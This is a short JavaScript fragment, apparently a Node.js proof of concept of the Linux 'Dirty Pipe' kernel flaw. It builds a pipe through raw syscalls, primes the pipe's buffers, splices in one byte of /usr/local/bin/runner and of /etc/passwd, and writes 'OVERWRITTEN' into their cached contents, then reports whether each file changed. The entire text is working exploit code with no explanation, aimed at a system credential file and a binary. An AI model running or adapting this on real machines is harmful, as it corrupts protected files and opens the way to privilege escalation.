for (const path of ["/usr/local/bin/runner", "/etc/passwd"]) {
  const fd = fs.openSync(path), before = Buffer.alloc(16), after = Buffer.alloc(16), ends = Buffer.alloc(8);
  fs.readSync(fd, before, 0, 16, 0);
  const at = memory(ends), page = Buffer.alloc(4096);
  call("pipe2", at, fs.constants.O_NONBLOCK);
  fs.readSync(self, ends, 0, 8, at);
  const r = ends.readInt32LE(0), w = ends.readInt32LE(4);
  for (const step of [() => fs.writeSync(w, page), () => fs.readSync(r, page)]) {
    try {
      for (;;) step();
    } catch (e) {
      if (e.code !== "EAGAIN") throw e;
    }
  }
  if (call("splice", fd, memory(Buffer.from([1, 0, 0, 0, 0, 0, 0, 0])), w, 0, 1, 0) !== 1) throw new Error("not spliced");
  fs.writeSync(w, "OVERWRITTEN");
  fs.readSync(fs.openSync(path), after, 0, 16, 0);
  console.log(path + ":", after.equals(before) ? "unchanged" : "changed");
}
